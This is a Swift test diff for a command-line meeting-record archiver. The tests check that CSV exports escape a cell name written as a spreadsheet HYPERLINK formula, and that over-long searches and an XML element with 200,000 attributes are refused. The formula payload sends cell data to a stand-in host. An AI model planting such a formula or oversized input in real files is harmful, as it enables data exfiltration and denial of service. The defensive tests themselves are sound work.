@@ -356,4 +356,69 @@ struct SafetyTests {
             "\(filed.errors)")
         #expect(try run(["show", "np-2023-08"]).output.contains("Kỳ sinh hoạt"))
     }
+
+    // MARK: 11. Exports are data, never code
+
+    @Test func aCellNamedLikeAFormulaIsTextInTheCSV() throws {
+        try initialized(with: ["fixtures/hostile/formula-cell-name.xml"])
+        let result = try run(["summary", "--year", "2023", "--cell", "cb-a", "--format", "csv"])
+        #expect(result.status == 0, "\(result.errors)")
+        let row = try #require(result.output.split(separator: "\r\n").dropFirst().first)
+        #expect(
+            row.hasPrefix(#"2023,cb-a,"'=HYPERLINK(""http://example.invalid/?d=""&A1,""Chi bộ thôn A"")",dbx-test,"#),
+            "\(row)")
+        // Other formats carry the name as it is.
+        let json = try run(["summary", "--year", "2023", "--cell", "cb-a", "--format", "json"])
+        #expect(json.output.contains(#""name" : "=HYPERLINK("#) || json.output.contains(#""name":"=HYPERLINK("#))
+    }
+
+    // MARK: 10. Hostile sizes are bounded before the expensive work
+
+    @Test func aQueryOfHundredsOfWordsIsRefusedAtOnce() throws {
+        try initialized(with: ["fixtures/valid/minimal.xml"])
+        let result = try run(["search"] + Array(repeating: "đường", count: 800))
+        #expect(result.status == 1)
+        #expect(
+            result.errorLines
+                == ["sochibo: câu tìm kiếm quá dài (800 từ): chỉ tìm với tối đa 32 từ; hãy bớt từ rồi tìm lại."],
+            "\(result.errors)")
+        #expect(try run(["search"] + Array(repeating: "đường", count: 32)).status == 0)
+    }
+
+    @Test func anElementWithThousandsOfAttributesIsRefusedBeforeLibxml2ScansThem() throws {
+        try initialized()
+        let file = Sochibo.path("fixtures/hostile/many-attributes.xml")
+        let refusal =
+            "error: nội dung bị từ chối: một phần tử có quá 256 thuộc tính; không phần tử nào của định dạng lưu trữ cần nhiều đến thế"
+        let result = try run(["import", file])
+        #expect(result.status == 1)
+        #expect(
+            result.errorLines == [
+                "\(file):40:3: \(refusal)", "sochibo: không nhập gì cả: 1 lỗi; kho lưu trữ giữ nguyên như trước.",
+            ],
+            "\(result.errors)")
+        // 200,000 attributes took libxml2 over two minutes to refuse.
+        let minimal = try String(contentsOfFile: Sochibo.path("fixtures/valid/minimal.xml"), encoding: .utf8)
+        let extra = (0..<200_000).map { "x\($0)=\"\($0)\"" }.joined(separator: " ")
+        let big = directory + "/big.xml"
+        try Data(minimal.replacingOccurrences(of: "<meeting ", with: "<meeting " + extra + " ").utf8)
+            .write(to: URL(fileURLWithPath: big))
+        let started = Date()
+        let refused = try run(["import", big])
+        #expect(refused.errorLines.first == "\(big):40:3: \(refusal)", "\(refused.errors)")
+        #expect(Date().timeIntervalSince(started) < 30)
+    }
+
+    // MARK: 12. What the format allows is read as the format says
+
+    @Test func tokensWithSpacesDatesWithZonesAndADoctypeInACommentAreReadAsTheSchemaReadsThem() throws {
+        try initialized(with: ["fixtures/valid/format-allowances.xml"])
+        let plain = directory + "/plain"
+        #expect(try Sochibo.run(["init", "--archive", plain]).status == 0)
+        #expect(
+            try Sochibo.run(["import", "--archive", plain, Sochibo.path("fixtures/valid/minimal.xml")]).status == 0)
+        let allowed = try run(["export"])
+        #expect(allowed.status == 0, "\(allowed.errors)")
+        #expect(allowed.output == (try Sochibo.run(["export", "--archive", plain]).output))
+    }
 }
